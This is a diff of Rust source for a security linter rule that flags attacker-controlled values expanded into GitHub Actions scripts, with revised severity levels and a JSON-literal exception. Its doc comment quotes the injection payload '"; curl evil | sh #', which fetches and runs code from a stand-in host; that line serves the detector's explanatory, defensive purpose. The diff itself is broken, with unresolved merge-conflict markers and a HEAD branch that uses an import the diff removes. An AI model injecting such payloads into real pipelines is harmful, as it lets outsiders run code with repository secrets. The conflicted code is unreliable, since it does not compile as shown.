@@ -1,11 +1,11 @@
-use lockgate_evidence::{Confidence, Finding, Span, rule};
-use lockgate_pipelines::expression::Template;
-use lockgate_pipelines::model::{Body, Run, Uses};
+use lockgate_evidence::{Finding, Span, rule};
+use lockgate_pipelines::expression::{ContextPath, Expr, Template};
+use lockgate_pipelines::model::{Body, Run, Step, Uses};
 use lockgate_pipelines::yaml::Text;
 
 use crate::context::Context;
-use crate::data::code_inputs;
-use crate::flow::{Flow, Taint, severity};
+use crate::data::code_inputs::{self, Language};
+use crate::flow::{Flow, Reach, Taint};
 use crate::rewrite;
 use crate::tree::Place;
 
@@ -16,16 +16,24 @@ rule! {
     /// code. The value is followed back through `env`, inputs, matrices, outputs of steps and jobs, `GITHUB_ENV` and
     /// `GITHUB_OUTPUT`, composite actions and called workflows of the same repository; the finding shows each place it
     /// passed. Values that can only be a number, a commit id, a flag or a fixed word are left out, and so are expressions
-    /// of which only a comparison's result is used.
+    /// of which only a comparison's result is used, and JSON that stands as a literal in JavaScript.
     ///
     /// # Why it matters
     ///
     /// The platform expands expressions before the shell reads the script, so a title such as `"; curl evil | sh #` becomes a
     /// command. That is how outsiders ran code with the repository's secrets in the pipelines of `ultralytics` (December
-    /// 2024, a branch name) and `nx` (August 2025, the title of a pull request). The severity is critical where anyone can
-    /// start the workflow with the repository's rights, medium where only runs of fork pull requests without secrets are
-    /// affected, low where the value comes from someone with rights of their own, and info where it is the output of an
-    /// action whose inside cannot be seen. The confidence falls where the path crosses something outside the repository.
+    /// 2024, a branch name) and `nx` (August 2025, the title of a pull request). The severity says what an outsider can do:
+    ///
+    /// - critical: he starts the run, and it has secrets or a token that can write;
+    /// - high: it has neither, but shares caches with the default branch; somebody must first set a label; or it is an
+    ///   action or called workflow whose callers are not known;
+    /// - medium: somebody must first merge, approve or ask for the run; the text comes from commits that were accepted; or
+    ///   only runs of his own pull request are affected, which have no secrets;
+    /// - low: a condition lets only members or branches of the same repository through, or the value comes from someone
+    ///   with rights of his own; info: it is the output of an action whose inside cannot be seen.
+    ///
+    /// Triggers, conditions and rights are those of the workflows in the tree that lead there. The confidence falls where
+    /// the path crosses something outside of it.
     ///
     /// # Bad
     ///
@@ -102,7 +110,14 @@ fn inputs(cx: &Context<'_>, place: Place<'_>, uses: &Uses, out: &mut Vec<Finding
         let Some(language) = code_inputs::language(&action, binding.key.value()) else {
             continue;
         };
+<<<<<<< HEAD
         let tainted = tainted(cx, place, &binding.value);
+=======
+        let mut tainted = tainted(cx, place, &binding.value);
+        tainted.retain(|(template, _)| {
+            language != Language::JavaScript || !is_literal(place, &binding.value, template)
+        });
+>>>>>>> reva
         let templates: Vec<_> = tainted.iter().map(|(template, _)| *template).collect();
         let fix = rewrite::input(place, uses, &binding.value, language, &templates);
         for (template, taint) in tainted {
@@ -115,6 +130,43 @@ fn inputs(cx: &Context<'_>, place: Place<'_>, uses: &Uses, out: &mut Vec<Finding
             out.push(finding);
         }
     }
+}
+
+/// True where JSON stands as a literal of JavaScript, outside of quotes: it cannot be anything but data.
+fn is_literal(place: Place<'_>, text: &Text, template: &Template) -> bool {
+    let Ok(expr) = &template.expression else {
+        return false;
+    };
+    let before = &text.value()[..template.span.start];
+    let line = before.rsplit('\n').next().unwrap_or_default();
+    let open = |text: &str, quote: char| text.matches(quote).count() % 2 == 1;
+    let quoted = open(line, '"') || open(line, '\'') || open(before, '`');
+    !quoted && is_json(place, expr)
+}
+
+/// `toJSON(…)`, or the lists of files of `dorny/paths-filter` where they are asked for as JSON.
+fn is_json(place: Place<'_>, expr: &Expr) -> bool {
+    if expr
+        .ungrouped()
+        .call()
+        .is_some_and(|(name, _)| name == "tojson")
+    {
+        return true;
+    }
+    let path = expr.ungrouped().path();
+    let Some([root, id, _, _]) = path.as_ref().map(ContextPath::segments) else {
+        return false;
+    };
+    let mut steps = place.job.steps.iter();
+    let step = steps.find(|step| {
+        step.id
+            .as_ref()
+            .is_some_and(|own| own.value().eq_ignore_ascii_case(id))
+    });
+    root == "steps"
+        && step.and_then(Step::uses).is_some_and(|uses| {
+            uses.is("dorny/paths-filter") && uses.input("list-files") == Some("json")
+        })
 }
 
 fn tainted<'t>(cx: &Context<'_>, place: Place<'_>, text: &'t Text) -> Vec<(&'t Template, Taint)> {
@@ -138,6 +190,7 @@ fn finding(
     taint: &Taint,
     into: &str,
 ) -> Finding {
+<<<<<<< HEAD
     let who = match (taint.is_attacker(), taint.confidence) {
         (true, _) => "an outsider can run commands here",
         (false, Confidence::Low) => "who decides it cannot be told",
@@ -161,4 +214,13 @@ fn finding(
         finding = finding.related(&place.pipeline.source, trigger.name.span(), note);
     }
     finding
+=======
+    let reach = Reach::of(cx.tree, place, taint);
+    let message = format!(
+        "`{}` is expanded into {into}: {}",
+        taint.origin,
+        reach.words()
+    );
+    reach.explain(taint, cx.finding(&RULE, text.locate(span), message))
+>>>>>>> reva
 }
